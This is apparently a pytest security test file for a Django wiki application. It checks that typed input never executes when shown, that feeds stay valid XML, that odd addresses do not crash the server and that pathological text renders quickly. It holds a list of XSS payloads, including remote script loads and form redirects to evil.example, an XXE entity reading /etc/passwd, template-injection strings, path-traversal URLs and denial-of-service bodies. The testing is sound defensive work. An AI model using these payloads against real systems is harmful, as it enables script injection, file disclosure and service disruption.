"""Whatever somebody types, wherever it is shown: nothing runs, nothing breaks, and nothing that was typed is lost."""

from html.parser import HTMLParser
from typing import Any
from xml.etree import ElementTree

import pytest
from django.test import Client
from hypothesis import given
from hypothesis import strategies as st
from tests.conftest import Cast

from fieldcraft.errors import Invalid
from fieldcraft.manual.actions.drafts import Text
from fieldcraft.manual.actions.pages import add_page
from fieldcraft.manual.models import Revision
from fieldcraft.manual.views.feeds import _as_xml
from fieldcraft.people.actions.community import set_quorum
from fieldcraft.ui.compare import compared
from fieldcraft.ui.markdown import render

BACKEND = "allauth.account.auth_backends.AuthenticationBackend"
ATOM = "{http://www.w3.org/2005/Atom}"
ATTACKS = (
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<img src=x onerror=alert(1)>",
    '"><img src=x onerror=alert(1)>',
    "' onmouseover='alert(1)' x='",
    "[tap](javascript:alert(1)) [tap](&#106;avascript:alert(1)) [tap](java\tscript:alert(1))",
    "[tap](data:text/html;base64,PHNjcmlwdD4=) ![x](data:image/svg+xml;base64,PHN2Zz4=)",
    "<a href='vbscript:x' onclick=alert(1)>tap</a>",
    "<svg><script>alert(1)</script><a xlink:href='javascript:alert(1)'>x</a></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<style>*{background:url(//evil.example)}</style><p style='position:fixed;inset:0'>over</p>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe><object data=x></object><embed src=x>",
    "<form action=//evil.example><input name=csrfmiddlewaretoken formaction=//evil.example autofocus onfocus=alert(1)>",
    "<base href=//evil.example><meta http-equiv=refresh content='0;url=//evil.example'><link rel=stylesheet href=//evil>",
    "</textarea></pre></q></main><script>alert(1)</script>",
    "<div><p><b><i>never closed",
    "<!-- --!><img src=x onerror=alert(1)> -->",
    "&lt;script&gt;alert(1)&lt;/script&gt; &#0; &#xD800; &notanentity;",
    "[[\"><script>alert(1)</script>|x]] [[x|<img src=x onerror=alert(1)>]]",
    "](javascript:alert(1)) ` ``` ~~~ | --- | * _ [ ![",
    "\u202egnp.exe\u202c \u2066left\u2069 \u200b\u200d\ufeff",
    "👩🏽‍⚕️ 🏳️‍🌈 \U000e0041 e\u0301\u0301\u0301\u0301",
    "\x0b \x0c \x1b[31m \x7f \x85 \ufffe \uffff",
    "]]> <![CDATA[ <?xml version='1.0'?> <!DOCTYPE x [<!ENTITY y SYSTEM 'file:///etc/passwd'>]> &y;",
    "{{ 7|add:7 }} {% load x %} {% csrf_token %}",
    "w" * 10_000,
)  # fmt: skip
REFUSED_TAGS = {"iframe", "object", "embed", "svg", "math", "base", "style", "mglyph", "frame", "video", "audio"}


class _Danger(HTMLParser):
    """Collects what a browser would run or load from what was typed: own scripts are files, forms stay here."""

    def __init__(self, html: str) -> None:
        super().__init__(convert_charrefs=True)
        self.found: list[str] = []
        self.feed(html)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        named = {name: (value or "").strip() for name, value in attrs}
        if tag in REFUSED_TAGS and not (tag == "svg" and named.get("class") == "icon"):
            self.found.append(tag)
        if (
            tag in {"script", "link"}
            and named.get("type") != "application/json"
            and not (named.get("src") or named.get("href", "")).startswith("/")
        ):
            self.found.append(f"{tag} {named}")
        if tag == "form" and named.get("action", "/")[:1] not in {"/", "?", ""}:
            self.found.append(f"form {named}")
        if tag == "meta" and "http-equiv" in named:
            self.found.append("meta")
        for name, value in named.items():
            bare = "".join(value.split()).lower()
            if name.startswith("on") or name in {"style", "srcdoc", "formaction", "xlink:href"}:
                self.found.append(f"{tag} {name}")
            if name in {"href", "src"} and bare.startswith(("javascript:", "vbscript:", "data:", "fc:", "//evil")):
                self.found.append(f"{tag} {name}={value}")


def _client(cast: Cast, who: str) -> Client:
    client = Client()
    client.force_login(cast.people[who], BACKEND)
    return client


def _shown(client: Client, path: str) -> str:
    answer = client.get(path)
    assert answer.status_code == 200, path
    html = answer.content.decode()
    assert _Danger(html).found == [], path
    return html


@pytest.fixture
def page(cast: Cast) -> Revision:
    return add_page(actor=cast.actor("edie"), manual=cast.core, text=Text("Hello", "Knock twice. Wait."))


def _sent(attack: str, based_on: object = "", **more: Any) -> dict[str, Any]:
    """The attack in every box of the form; the title cut to what a title may be."""
    return {
        "title": attack[:255],
        "body": f"Words before.\n\n{attack}\n\nWords after.",
        "tags": attack[:480],
        "new_section": attack[:120],
        "reason": attack[:300],
        "based_on": str(based_on),
        **more,
    }


@pytest.mark.parametrize("attack", ATTACKS, ids=range(len(ATTACKS)))
def test_nothing_that_was_typed_runs_anywhere_it_is_shown(cast: Cast, page: Revision, attack: str) -> None:
    set_quorum(actor=cast.actor("ana"), team=cast.team, quorum=2)
    ben, ana, at = _client(cast, "ben"), _client(cast, "ana"), "/m/street-manual/"
    ben.post(f"{at}p/hello/note/", {"body": attack, "quote": "Knock twice."})
    note = Revision.objects.latest("id")
    ben.post(f"{at}p/hello/remark/", {"body": attack[:2000], "based_on": str(page.pk)})

    answer = ben.post(f"{at}p/hello/change/", _sent(attack, page.pk))
    draft = Revision.objects.latest("id")
    if answer.status_code == 400:  # nothing that can be read is left of the title; the words are still there
        ben.post(f"{at}p/hello/change/", {**_sent(attack, page.pk), "title": "Hello"})
        draft = Revision.objects.latest("id")
    for path in (f"drafts/{draft.pk}/", f"drafts/{note.pk}/", f"drafts/{draft.pk}/change/", "to-manualize/"):
        _shown(ana, f"{at}{path}")
    refused = ana.post(f"{at}drafts/{draft.pk}/", {"act": "decline", "reason": attack[:300] + "x" * 400})
    assert _Danger(refused.content.decode()).found == []
    for each in (note, draft):
        assert ana.post(f"{at}drafts/{each.pk}/", {"act": "agree"}).status_code == 302

    held = Revision.objects.get(pk=draft.pk).edition
    address = f"{at}p/{held.slug}/"
    for path in ("", "history/", "compare/", "others/", "change/", "return/", "set-aside/"):
        _shown(ben, address + path)
    for path in ("", "index/", "changes/", f"revisions/{draft.pk}/", f"search/?q={held.slug[:20]}", "about/"):
        _shown(ben, at + path)
    sent = _sent(attack, page.pk)
    second = ben.post(f"{address}change/", {**sent, "body": f"{sent['body']}\n\nAnd more."})
    assert (second.status_code, _Danger(second.content.decode()).found) == (409, [])
    for feed in (f"{at}feed/", f"{address}feed/"):
        ElementTree.fromstring(ben.get(feed).content)


@pytest.mark.parametrize("attack", ATTACKS, ids=range(len(ATTACKS)))
def test_words_of_a_refused_form_come_back_whole_and_harmless(cast: Cast, page: Revision, attack: str) -> None:
    """The page is not there any more, or is nobody's: what was written is shown back, and runs nowhere."""
    for client in (_client(cast, "ben"), _client(cast, "cleo"), Client()):
        answer = client.post("/m/street-manual/p/never-there/change/", {"body": f"Precious. {attack}"})

        assert answer.status_code == 404
        assert "Precious." in answer.content.decode()
        assert _Danger(answer.content.decode()).found == []


def test_the_preview_of_a_link_says_the_words_and_nothing_else(cast: Cast) -> None:
    body = '"><script>alert(1)</script> Knock & "wait" <b>here</b>.'
    add_page(actor=cast.actor("edie"), manual=cast.core, text=Text('Tea "&" <b>', body))

    html = _shown(_client(cast, "ben"), "/m/core/p/tea-b/")

    assert '<meta property="og:title" content="Tea &quot;&amp;&quot; &lt;b&gt;">' in html
    assert "alert" not in html.partition("<body")[0]


@pytest.mark.parametrize("sign", ["\x0b", "\x0c", "\x1b", "\x7f", "\ufffe", "\uffff", "\x85", "\u202e", "👩🏽‍⚕️"])
def test_a_feed_stays_readable_whatever_was_pasted_into_title_and_reason(cast: Cast, page: Revision, sign: str) -> None:
    edie = _client(cast, "edie")
    edie.post("/m/core/p/hello/change/", _sent("x", page.pk, title=f"Tea{sign}time", reason=f"Be{sign}cause"))

    feed = ElementTree.fromstring(edie.get("/m/core/feed/").content)

    title = feed.findtext(f"{ATOM}entry/{ATOM}title") or ""
    assert title.startswith("Tea")
    assert title.endswith("time")


@given(st.text(max_size=60))
def test_any_words_become_words_that_xml_can_hold(text: str) -> None:
    escaped = _as_xml(text).replace("&", "&amp;").replace("<", "&lt;")

    ElementTree.fromstring(f"<a>{escaped}</a>".encode())


@pytest.mark.parametrize("title", ["\u200b", "\u202e\u202c", "\ufeff\u2060", "\x0b", " \u00a0 "])
def test_a_title_that_nobody_can_see_is_asked_for_again(cast: Cast, title: str) -> None:
    answer = _client(cast, "ben").post("/m/street-manual/add/", {"title": f"{title}", "body": "Precious."})

    assert answer.status_code == 400
    assert "Precious." in answer.content.decode()
    with pytest.raises(Invalid):
        add_page(actor=cast.actor("edie"), manual=cast.core, text=Text(title, "x"))


@pytest.mark.parametrize(
    "name", ["title", "body", "tags", "reason", "new_section", "quote", "prefix", "pole", "remark"]
)
def test_nul_is_refused_with_the_other_words_kept(cast: Cast, page: Revision, name: str) -> None:
    ben, sent = _client(cast, "ben"), _sent("Precious.", page.pk)
    path = "note/" if name in {"quote", "prefix"} else "change/"

    answer = ben.post(f"/m/street-manual/p/hello/{path}", {**sent, name: f"{sent.get(name, '')}\x00"})

    assert answer.status_code == 400
    assert "Precious." in answer.content.decode()


@pytest.mark.parametrize(
    "path",
    [
        "search/?q=a%00b", "titles/?q=%00", "missing/?title=%00", "files/a%00.png", "files/%ED%A0%80.png",
        "p/a%00b/", "p/a~%00/", "p/hello/compare/?old=%00", "p/hello/change/?from=%00", "p/hello/note/?quote=%00",
        "?section=%00/%FF", "index/?letter=%00", "add/?title=%00", "feed/?key=%00", "p/hello/remark/?revision=%00",
        "p/..%2f..%2fetc/", "files/../../../etc/passwd", "p/%F0%9F%8F%B3/",
    ],
)  # fmt: skip
def test_no_address_breaks_the_server(cast: Cast, page: Revision, path: str) -> None:
    answer = _client(cast, "ben").get(f"/m/street-manual/{path}")

    assert answer.status_code in {200, 301, 302, 400, 404}


@pytest.mark.parametrize(
    "body",
    [
        ">" * 5_000, "- " * 5_000, "[" * 20_000, "![" * 10_000, "*a" * 20_000, "`" * 20_001, "<" * 20_000, "&" * 20_000,
        "[[" * 10_000, "|a" * 5_000 + "\n" + "|-" * 5_000, "<b>" * 5_000, "<div>\n\n" * 3_000, "[^1]: a\n" * 2_000,
        "a" * 200_000, "\\" * 50_000, "(" * 20_000 + ")" * 20_000, "<!--" * 10_000, "~~" * 20_000, "\u0301" * 20_000,
    ],
    ids=range(19),
)  # fmt: skip
def test_no_text_makes_the_server_think_for_long(body: str, benchmark_seconds: float) -> None:
    from time import perf_counter

    start = perf_counter()
    assert _Danger(render(body).html).found == []
    assert compared("Words.", body).summary
    assert perf_counter() - start < benchmark_seconds


@pytest.fixture
def benchmark_seconds() -> float:
    """Roomy, for two cores that others use, too; a text that costs the square of its length takes minutes."""
    return 20
